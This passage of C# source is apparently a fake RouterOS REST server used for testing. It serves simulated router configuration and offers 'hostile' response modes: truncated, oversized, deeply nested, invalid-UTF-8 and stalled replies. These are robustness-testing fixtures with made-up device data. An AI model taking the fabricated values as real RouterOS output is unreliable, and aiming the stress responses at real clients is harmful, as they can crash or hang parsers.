    private static object? Render(RouterOsTwinState s, string menu, IQueryCollection query)
    {
        menu = menu.TrimStart('/');
        var now = s.Now;
        var uptime = now - s.ClockOffset - s.Boot;
        var counter = s.CounterBase + (long)uptime.TotalSeconds;
        List<SortedDictionary<string, string>>? rows = null;
        SortedDictionary<string, string>? settings = null;
        string? itemId = null;
        foreach (var list in new[]
        {
            "system/package", "user/ssh-keys", "user/group", "user", "ip/service", "ip/firewall/nat", "ip/firewall/filter", "ip/dns/static", "system/script", "system/scheduler",
            "ip/dhcp-server/lease", "ip/dhcp-client", "file", "tool/netwatch", "system/logging/action", "ppp/secret", "interface/wireguard/peers", "snmp/community",
            "interface/ovpn-server/server", "interface/sstp-client", "interface/l2tp-client", "interface/eoip", "interface/gre",
            "ip/dhcp-server/network", "ip/firewall/mangle", "ip/firewall/raw", "ip/route", "routing/rule", "ip/proxy/access", "ip/socks/access", "ip/traffic-flow/target",
            "ip/ipsec/peer", "ip/ipsec/identity", "container", "certificate", "system/logging",
            "ip/firewall/address-list", "ipv6/firewall/filter", "ipv6/firewall/nat", "ipv6/firewall/address-list", "ipv6/route", "radius",
            "ppp/profile", "ip/dhcp-server",
        })
        {
            if (menu.StartsWith(list + "/*", StringComparison.Ordinal))
            {
                itemId = menu[(list.Length + 1)..];
                menu = list;
                break;
            }
        }

        if (s.AbsentMenus.Contains(menu)) return null;
        switch (menu)
        {
            case "system/resource":
                settings = Fields(
                    ("architecture-name", "arm64"), ("bad-blocks", "0"), ("board-name", "RB5009UG+S+"), ("build-time", s.BuildTime), ("cpu", "ARM64"), ("cpu-count", "4"),
                    ("cpu-frequency", "350"), ("cpu-load", (counter % 37).ToString(CultureInfo.InvariantCulture)), ("factory-software", "7.9"),
                    ("free-hdd-space", (900_000_000 - counter % 65_536 * 4096).ToString(CultureInfo.InvariantCulture)), ("free-memory", (812_000_000 - counter % 9_973 * 4096).ToString(CultureInfo.InvariantCulture)),
                    ("platform", "MikroTik"), ("total-hdd-space", "1073741824"), ("total-memory", "1073741824"), ("uptime", RouterOsTwinState.Duration(uptime)), ("version", s.Version),
                    ("write-sect-since-reboot", (counter * 3).ToString(CultureInfo.InvariantCulture)), ("write-sect-total", (8_000_000 + counter * 3).ToString(CultureInfo.InvariantCulture)));
                break;
            case "system/routerboard":
                settings = Fields(("current-firmware", "7.20.8"), ("factory-firmware", "7.9"), ("firmware-type", "70x0"), ("model", "RB5009UG+S+"), ("routerboard", "true"),
                    ("serial-number", "HG7091A2B3C"), ("upgrade-firmware", "7.20.8"));
                break;
            case "system/clock":
                settings = Fields(("date", now.UtcDateTime.ToString("yyyy-MM-dd", CultureInfo.InvariantCulture)), ("dst-active", "false"), ("gmt-offset", "+00:00"),
                    ("time", now.UtcDateTime.ToString("HH:mm:ss", CultureInfo.InvariantCulture)), ("time-zone-autodetect", "true"), ("time-zone-name", "Etc/UTC"));
                break;
            case "system/identity":
                settings = Fields(("name", "lab-rb5009"));
                break;
            case "system/package":
                rows = Rows(s, s.Packages, r =>
                {
                    if (r["version"].Length > 0) return;
                    r["version"] = s.ShortVersion;
                    r["build-time"] = s.BuildTime;
                });
                break;
            case "user":
                rows = Rows(s, s.Users, r => r["last-logged-in"] = r["disabled"] == "true" ? "" : RouterOsTwinState.Stamp(now - TimeSpan.FromMinutes(3)));
                break;
            case "user/ssh-keys":
                rows = Rows(s, s.SshKeys, null);
                break;
            case "ip/service":
                rows = Rows(s, s.Services, null);
                break;
            case "ip/dns":
                settings = new SortedDictionary<string, string>(s.Dns, StringComparer.Ordinal) { ["cache-used"] = (counter % 2000).ToString(CultureInfo.InvariantCulture) };
                break;
            case "ip/firewall/nat":
                rows = Rows(s, s.Nat, r =>
                {
                    r["bytes"] = (counter * 1_337 * r.Count).ToString(CultureInfo.InvariantCulture);
                    r["packets"] = (counter * 11 * r.Count).ToString(CultureInfo.InvariantCulture);
                });
                break;
            case "system/script":
                rows = Rows(s, s.Scripts, r =>
                {
                    r["run-count"] = (counter / 100).ToString(CultureInfo.InvariantCulture);
                    r["last-started"] = RouterOsTwinState.Stamp(now - TimeSpan.FromHours(2));
                });
                break;
            case "system/scheduler":
                rows = Rows(s, s.Schedulers, r =>
                {
                    r["run-count"] = (counter / 100).ToString(CultureInfo.InvariantCulture);
                    r["next-run"] = RouterOsTwinState.Stamp(now + TimeSpan.FromHours(7));
                });
                break;
            case "ip/socks":
                settings = new SortedDictionary<string, string>(s.Socks, StringComparer.Ordinal);
                break;
            case "ip/proxy":
                settings = new SortedDictionary<string, string>(s.Proxy, StringComparer.Ordinal);
                break;
            case "user/group":
                rows = Rows(s, s.Groups, null);
                break;
            case "ip/dns/static":
                rows = Rows(s, s.DnsStatic, null);
                break;
            case "ip/firewall/filter":
                rows = Rows(s, s.Filter, r =>
                {
                    r["bytes"] = (counter * 977 * r.Count).ToString(CultureInfo.InvariantCulture);
                    r["packets"] = (counter * 7 * r.Count).ToString(CultureInfo.InvariantCulture);
                });
                break;
            case "file":
                rows = Rows(s, s.Files, null);
                break;
            case "tool/netwatch":
                rows = Rows(s, s.Netwatch, r =>
                {
                    r["since"] = RouterOsTwinState.Stamp(now - TimeSpan.FromSeconds(counter % 5000));
                    r["done-tests"] = counter.ToString(CultureInfo.InvariantCulture);
                });
                break;
            case "system/logging/action":
                rows = Rows(s, s.LoggingActions, null);
                break;
            case "ppp/secret":
                rows = Rows(s, s.PppSecrets, r => r["last-logged-out"] = RouterOsTwinState.Stamp(now - TimeSpan.FromHours(30)));
                break;
            case "interface/wireguard/peers":
                rows = Rows(s, s.WireGuardPeers, r =>
                {
                    r["rx"] = (counter * 1500).ToString(CultureInfo.InvariantCulture);
                    r["last-handshake"] = RouterOsTwinState.Duration(TimeSpan.FromSeconds(counter % 120));
                });
                break;
            case "snmp/community":
                rows = Rows(s, s.SnmpCommunities, null);
                break;
            case "interface/ovpn-server/server":
                rows = Rows(s, s.OvpnServers, null);
                break;
            case "interface/sstp-client":
                rows = Rows(s, s.SstpClients, r => r["uptime"] = RouterOsTwinState.Duration(uptime));
                break;
            case "interface/l2tp-client":
                rows = Rows(s, s.L2tpClients, null);
                break;
            case "interface/pptp-client":
            case "interface/ovpn-client":
            case "interface/ipip":
                rows = [];
                break;
            case "interface/eoip":
                rows = Rows(s, s.EoipTunnels, null);
                break;
            case "interface/gre":
                rows = Rows(s, s.GreTunnels, null);
                break;
            case "ip/dhcp-server/network":
                rows = Rows(s, s.DhcpNetworks, null);
                break;
            case "ip/firewall/mangle":
            case "ip/firewall/raw":
                rows = Rows(s, menu.EndsWith("mangle", StringComparison.Ordinal) ? s.Mangle : s.Raw, r =>
                {
                    r["bytes"] = (counter * 1499 * r.Count).ToString(CultureInfo.InvariantCulture);
                    r["packets"] = (counter * 3 * r.Count).ToString(CultureInfo.InvariantCulture);
                });
                break;
            case "ip/route":
                rows = Rows(s, s.Routes, null);
                break;
            case "routing/rule":
                rows = Rows(s, s.RoutingRules, null);
                break;
            case "ip/proxy/access":
                rows = Rows(s, s.ProxyAccess, r => r["hits"] = counter.ToString(CultureInfo.InvariantCulture));
                break;
            case "ip/socks/access":
                rows = Rows(s, s.SocksAccess, null);
                break;
            case "ip/traffic-flow/target":
                rows = Rows(s, s.FlowTargets, null);
                break;
            case "ip/ipsec/peer":
                rows = Rows(s, s.IpsecPeers, null);
                break;
            case "ip/ipsec/identity":
                rows = Rows(s, s.IpsecIdentities, null);
                break;
            case "container":
                // The menu exists only while the container package is enabled.
                if (s.Packages.Any(p => p["name"] == "container" && p["disabled"] == "true")) return null;
                rows = Rows(s, s.Containers, null);
                break;
            case "certificate":
                rows = Rows(s, s.Certificates, r => r["expires-after"] = RouterOsTwinState.Duration(new DateTimeOffset(2036, 1, 2, 3, 4, 5, TimeSpan.Zero) - now));
                break;
            case "system/logging":
                rows = Rows(s, s.LoggingRules, null);
                break;
            case "ip/firewall/address-list":
                rows = Rows(s, s.AddressLists, null);
                break;
            case "ipv6/firewall/address-list":
                rows = Rows(s, s.AddressLists6, null);
                break;
            case "ipv6/firewall/filter":
            case "ipv6/firewall/nat":
                rows = Rows(s, menu.EndsWith("filter", StringComparison.Ordinal) ? s.Filter6 : s.Nat6, r =>
                {
                    r["bytes"] = (counter * 661 * r.Count).ToString(CultureInfo.InvariantCulture);
                    r["packets"] = (counter * 5 * r.Count).ToString(CultureInfo.InvariantCulture);
                });
                break;
            case "ipv6/route":
                rows = Rows(s, s.Routes6, null);
                break;
            case "radius":
                rows = Rows(s, s.RadiusServers, null);
                break;
            case "ip/ssh":
                settings = new SortedDictionary<string, string>(s.Ssh, StringComparer.Ordinal);
                break;
            case "user/aaa":
                settings = new SortedDictionary<string, string>(s.UserAaa, StringComparer.Ordinal);
                break;
            case "system/ntp/client":
                // The clock's own state moves with time; only enabled and servers are configuration.
                settings = new SortedDictionary<string, string>(s.NtpClient, StringComparer.Ordinal)
                {
                    ["freq-drift"] = (counter % 7 / 10.0).ToString("0.0", CultureInfo.InvariantCulture) + " PPM",
                    ["system-offset"] = (now.Minute % 13).ToString(CultureInfo.InvariantCulture) + " ms",
                };
                break;
            case "tool/mac-server":
                settings = new SortedDictionary<string, string>(s.MacServer, StringComparer.Ordinal);
                break;
            case "tool/mac-server/mac-winbox":
                settings = new SortedDictionary<string, string>(s.MacWinbox, StringComparer.Ordinal);
                break;
            case "tool/bandwidth-server":
                settings = new SortedDictionary<string, string>(s.BandwidthServer, StringComparer.Ordinal);
                break;
            case "ip/smb":
                settings = new SortedDictionary<string, string>(s.Smb, StringComparer.Ordinal);
                break;
            case "ip/traffic-flow":
                settings = new SortedDictionary<string, string>(s.TrafficFlow, StringComparer.Ordinal);
                break;
            case "user/settings":
                settings = new SortedDictionary<string, string>(s.UserSettings, StringComparer.Ordinal);
                break;
            case "tool/romon":
                settings = new SortedDictionary<string, string>(s.Romon, StringComparer.Ordinal);
                break;
            case "ip/cloud":
                settings = new SortedDictionary<string, string>(s.Cloud, StringComparer.Ordinal) { ["public-address"] = "198.51.100." + (77 + counter % 3).ToString(CultureInfo.InvariantCulture) };
                break;
            case "ip/upnp":
                settings = new SortedDictionary<string, string>(s.Upnp, StringComparer.Ordinal);
                break;
            case "snmp":
                settings = new SortedDictionary<string, string>(s.Snmp, StringComparer.Ordinal);
                break;
            case "tool/sniffer":
                settings = new SortedDictionary<string, string>(s.Sniffer, StringComparer.Ordinal);
                break;
            case "system/device-mode":
                if (s.NoDeviceMode) return null;
                settings = new SortedDictionary<string, string>(s.DeviceMode, StringComparer.Ordinal);
                break;
            case "interface/pptp-server/server":
                settings = new SortedDictionary<string, string>(s.PptpServer, StringComparer.Ordinal);
                break;
            case "interface/l2tp-server/server":
                settings = new SortedDictionary<string, string>(s.L2tpServer, StringComparer.Ordinal);
                break;
            case "interface/sstp-server/server":
                settings = new SortedDictionary<string, string>(s.SstpServer, StringComparer.Ordinal);
                break;
            case "ip/dhcp-server/lease":
                rows = Rows(s, s.Leases, r =>
                {
                    r["expires-after"] = RouterOsTwinState.Duration(TimeSpan.FromMinutes(10) - TimeSpan.FromSeconds(counter % 600));
                    r["last-seen"] = RouterOsTwinState.Duration(TimeSpan.FromSeconds(counter % 90));
                });
                break;
            case "ip/dhcp-client":
                rows =
                [
                    Fields((".id", "*" + (1 + s.IdShift).ToString("X", CultureInfo.InvariantCulture)), ("add-default-route", "yes"), ("address", "198.51.100.77/24"), ("dhcp-server", "198.51.100.1"),
                        ("disabled", "false"), ("dynamic", "false"), ("expires-after", RouterOsTwinState.Duration(TimeSpan.FromMinutes(30) - TimeSpan.FromSeconds(counter % 1800))),
                        ("gateway", "198.51.100.1"), ("interface", "ether1"), ("primary-dns", s.Dns["dynamic-servers"]), ("script", s.DhcpClientScript), ("status", "bound"),
                        ("use-peer-dns", "yes"), ("use-peer-ntp", "yes")),
                ];
                break;
            case "ppp/profile":
                rows = Rows(s, s.PppProfiles, null);
                break;
            case "ip/dhcp-server":
                rows = Rows(s, s.DhcpServers, null);
                break;
            default:
                return null;
        }

        if (rows is not null)
        {
            if (itemId is not null)
            {
                var item = rows.FirstOrDefault(r => r[".id"] == itemId);
                if (item is null) return new NotFound();
                settings = item;
                rows = null;
            }
            else
            {
                foreach (var (key, values) in query)
                {
                    if (key.StartsWith('.')) continue;
                    rows = rows.Where(r => r.TryGetValue(key, out var v) && v == values.ToString()).ToList();
                }
            }
        }
        var proplist = query[".proplist"].ToString();
        if (proplist.Length > 0)
        {
            var keep = proplist.Split(',', StringSplitOptions.TrimEntries | StringSplitOptions.RemoveEmptyEntries).ToHashSet(StringComparer.Ordinal);
            static SortedDictionary<string, string> Only(SortedDictionary<string, string> d, HashSet<string> keep) =>
                new(d.Where(p => keep.Contains(p.Key)).ToDictionary(p => p.Key, p => p.Value), StringComparer.Ordinal);
            if (rows is not null) rows = rows.Select(r => Only(r, keep)).ToList();
            if (settings is not null) settings = Only(settings, keep);
        }
        if (s.Sloppy)
        {
            if (rows is not null) foreach (var r in rows) Sloppify(r);
            if (settings is not null) Sloppify(settings);
        }
        return (object?)rows ?? settings;
    }

    private static SortedDictionary<string, string> Fields(params (string Key, string Value)[] fields) =>
        new(fields.ToDictionary(f => f.Key, f => f.Value), StringComparer.Ordinal);

    private static List<SortedDictionary<string, string>> Rows(RouterOsTwinState s, List<Row> rows, Action<SortedDictionary<string, string>>? dynamic)
    {
        var result = new List<SortedDictionary<string, string>>();
        foreach (var row in rows)
        {
            var copy = new SortedDictionary<string, string>(row.Fields, StringComparer.Ordinal) { [".id"] = s.Id(row) };
            dynamic?.Invoke(copy);
            result.Add(copy);
        }
        return result;
    }

    /// <summary>Same settings, presented differently where RouterOS does not care: yes/no, spaced and upper-cased lists, CRLF scripts.</summary>
    private static void Sloppify(SortedDictionary<string, string> r)
    {
        foreach (var key in r.Keys.ToList())
        {
            var v = r[key];
            if (v == "true") r[key] = "yes";
            else if (v == "false") r[key] = "no";
            else if (key is "address" or "servers" or "dynamic-servers" or "gateway" or "dns-server" or "allowed-interface-list" or "topics" && v.Length > 0) r[key] = " " + string.Join(" , ", v.Split(',')).ToUpperInvariant() + " ";
            else if (key is "key-type" or "protocol" or "auth-method") r[key] = v.ToUpperInvariant();
            else if (key is "source" or "on-event" or "on-up" or "on-down" or "lease-script" or "script" && v.Length > 0) r[key] = "  " + v.Replace("\n", "  \r\n\t", StringComparison.Ordinal) + " \r\n";
            else if (key is "port" or "to-addresses" or "to-ports" or "dst-port") r[key] = " " + v + " ";
        }
    }

    private static byte[] Serialize(object answer)
    {
        using var buffer = new MemoryStream();
        using (var writer = new Utf8JsonWriter(buffer, WriterOptions))
        {
            if (answer is List<SortedDictionary<string, string>> rows)
            {
                writer.WriteStartArray();
                foreach (var row in rows) WriteObject(writer, row);
                writer.WriteEndArray();
            }
            else
            {
                WriteObject(writer, (SortedDictionary<string, string>)answer);
            }
        }
        return buffer.ToArray();
    }

    private static void WriteObject(Utf8JsonWriter writer, SortedDictionary<string, string> fields)
    {
        writer.WriteStartObject();
        foreach (var (key, value) in fields) writer.WriteString(key, value);
        writer.WriteEndObject();
    }

    private static Task WriteError(HttpContext context, int status, string message, string? detail)
    {
        // RouterOS's error body: {"detail":...,"error":N,"message":...}, members in alphabetical order, detail only when there is one.
        using var buffer = new MemoryStream();
        using (var writer = new Utf8JsonWriter(buffer, WriterOptions))
        {
            writer.WriteStartObject();
            if (detail is not null) writer.WriteString("detail", detail);
            writer.WriteNumber("error", status);
            writer.WriteString("message", message);
            writer.WriteEndObject();
        }
        return WriteJson(context, status, buffer.ToArray(), "application/json");
    }

    private static async Task WriteJson(HttpContext context, int status, byte[] body, string contentType)
    {
        context.Response.StatusCode = status;
        context.Response.ContentType = contentType;
        context.Response.ContentLength = body.Length;
        await context.Response.Body.WriteAsync(body, context.RequestAborted);
    }

    private async Task Hostile(HttpContext context, RouterOsHostility hostility, string menu)
    {
        object? answer;
        lock (_gate) answer = Render(State, menu, context.Request.Query);
        answer ??= new List<SortedDictionary<string, string>>();
        var isList = answer is List<SortedDictionary<string, string>>;
        var body = answer is NotFound ? "[]"u8.ToArray() : Serialize(answer);
        switch (hostility)
        {
            case RouterOsHostility.TruncatedJson:
                await WriteJson(context, 200, body[..(body.Length / 2)], "application/json");
                break;
            case RouterOsHostility.OversizedBody:
                var filler = new string('x', 900);
                var big = Enumerable.Range(1, 300).Select(i => Fields((".id", "*" + i.ToString("X", CultureInfo.InvariantCulture)), ("comment", filler), ("name", "item" + i))).ToList();
                await WriteJson(context, 200, Serialize(big), "application/json");
                break;
            case RouterOsHostility.WrongTypes:
                var text = Encoding.UTF8.GetString(body);
                text = System.Text.RegularExpressions.Regex.Replace(text, "\"(\\d+|true|false)\"(?=[,}])", "$1");
                await WriteJson(context, 200, Encoding.UTF8.GetBytes(text), "application/json");
                break;
            case RouterOsHostility.NestedValue:
                var nested = isList ? "[{\".id\":\"*1\",\"name\":{\"first\":{\"second\":\"x\"}}}]" : "{\"enabled\":{\"value\":\"false\"},\"version\":\"7.20.8 (long-term)\"}";
                await WriteJson(context, 200, Encoding.UTF8.GetBytes(nested), "application/json");
                break;
            case RouterOsHostility.DeeplyNested:
                await WriteJson(context, 200, Encoding.ASCII.GetBytes(new string('[', 30_000) + new string(']', 30_000)), "application/json");
                break;
            case RouterOsHostility.NotJson:
                await WriteJson(context, 200, "<html><head><title>Login</title></head><body>captive portal</body></html>"u8.ToArray(), "text/html");
                break;
            case RouterOsHostility.WrongContentType:
                await WriteJson(context, 200, body, "text/plain");
                break;
            case RouterOsHostility.NoSuchMenu:
                await WriteError(context, 400, "Bad Request", $"no such command or directory ({menu[(menu.LastIndexOf('/') + 1)..]})");
                break;
            case RouterOsHostility.ServerError:
                await WriteError(context, 500, "Internal Server Error", "std failure: timeout (13)");
                break;
            case RouterOsHostility.InvalidUtf8:
                byte[] bad = [.. "[{\".id\":\"*1\",\"name\":\"bad"u8, 0xC3, 0x28, .. "\"}]"u8];
                if (!isList) bad = [.. "{\"version\":\"7."u8, 0xC3, 0x28, .. "\"}"u8];
                await WriteJson(context, 200, bad, "application/json");
                break;
            case RouterOsHostility.DuplicateMember:
                var duplicate = isList ? "[{\".id\":\"*1\",\"name\":\"admin\",\"name\":\"other\",\"group\":\"full\"}]" : "{\"version\":\"7.20.8 (long-term)\",\"version\":\"6.0 (stable)\"}";
                await WriteJson(context, 200, Encoding.UTF8.GetBytes(duplicate), "application/json");
                break;
            case RouterOsHostility.WrongShape:
                var shape = isList ? "{\".id\":\"*1\",\"name\":\"admin\"}" : "[{\"version\":\"7.20.8 (long-term)\"},{\"version\":\"7.19.6 (stable)\"}]";
                await WriteJson(context, 200, Encoding.UTF8.GetBytes(shape), "application/json");
                break;
            case RouterOsHostility.Stall:
                context.Response.StatusCode = 200;
                context.Response.ContentType = "application/json";
                context.Response.ContentLength = body.Length;
                try
                {
                    await context.Response.Body.WriteAsync(body.AsMemory(0, Math.Min(16, body.Length - 1)), context.RequestAborted);
                    await context.Response.Body.FlushAsync(context.RequestAborted);
                    await Task.Delay(TimeSpan.FromSeconds(30), context.RequestAborted);
                }
                catch (OperationCanceledException)
                {
                    // The client gave up, as it must.
                }
                context.Abort();
                break;
        }
    }

    public async ValueTask DisposeAsync()
    {
        await _app.StopAsync();
        await _app.DisposeAsync();
    }
}
